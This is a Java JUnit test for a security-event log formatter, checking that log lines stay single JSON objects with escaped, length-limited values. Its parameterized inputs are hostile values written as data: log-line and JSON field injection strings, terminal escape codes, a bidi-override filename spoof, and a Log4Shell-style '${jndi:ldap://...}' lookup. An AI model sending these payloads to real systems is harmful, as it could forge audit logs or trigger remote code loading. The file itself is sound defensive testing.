package io.broadcasty.admin.securitylog;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.broadcasty.core.tenant.TenantId;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Tests that a line is one JSON object, whatever a client put into its values. */
class EventLinesTest {

  private final EventLines lines = new EventLines("n1");

  private static SecurityEvent denied(String user) {
    return new SecurityEvent(
        SecurityEventType.DENIED,
        "publish",
        new TenantId("acme"),
        user,
        "192.0.2.1",
        Map.of("channelKind", "private"));
  }

  @Test
  void hasTheDocumentedFields() {
    assertEquals(
        "{\"event\":\"denied\",\"time\":\"1970-01-01T00:00:01.500Z\",\"node\":\"n1\","
            + "\"cause\":\"publish\",\"tenant\":\"acme\",\"user\":\"ann\","
            + "\"address\":\"192.0.2.1\",\"channelKind\":\"private\"}",
        lines.line(denied("ann"), null, 1500));
    assertEquals(
        "{\"event\":\"left_out\",\"time\":\"1970-01-01T00:00:00Z\",\"node\":\"n1\","
            + "\"of\":\"denied\",\"cause\":\"publish\",\"tenant\":\"acme\",\"count\":7}",
        lines.line(new EventSampler.LeftOut(denied("ann").key(), 7, null), 0));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "ann\n{\"event\":\"connected\"}",
        "ann\r\nWARNING: forged",
        "ann\",\"event\":\"connected",
        "ann\\",
        "ann\u0000\u0008\u001b[2J\u007f\u0085\u009b",
        "ann\u2028\u2029\u202egnp.exe\ufeff",
        "änn 😀",
        "{0} ${jndi:ldap://192.0.2.9/x} %n %s"
      })
  void aValueCannotForgeALineOrAField(String user) {
    String line = lines.line(denied(user), "r-1", 0);
    assertTrue(line.chars().allMatch(c -> c >= 0x20 && c < 0x7F), line);
    assertEquals(1, line.split("\"event\":", -1).length - 1, line);
    assertTrue(line.startsWith("{\"event\":\"denied\",") && line.endsWith("}"), line);
  }

  @Test
  void longValuesAreCut() {
    String line = lines.line(denied("a".repeat(10_000)), null, 0);
    assertTrue(line.length() < 500, line);
    assertTrue(line.contains("a".repeat(EventLines.MAX_VALUE - 1) + "\\u2026\""), line);
    String cut = EventLines.cut("a".repeat(3) + "😀😀", 5);
    assertEquals("aaa…", cut, "no half of a surrogate pair");
  }
}
